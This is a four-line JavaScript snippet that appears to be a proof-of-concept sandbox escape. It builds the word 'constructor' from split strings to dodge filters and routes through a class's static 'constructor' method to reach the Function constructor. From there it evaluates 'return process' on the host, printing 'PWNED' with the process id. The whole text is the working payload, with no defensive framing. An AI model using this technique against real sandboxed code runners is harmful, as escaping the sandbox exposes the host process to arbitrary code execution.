const w = ['con', 'structor'].join('');
class A { static constructor(f) { return f[w]('return process')().pid; } }
const call = A['constructor'];
console.log('PWNED', call((x) => x));
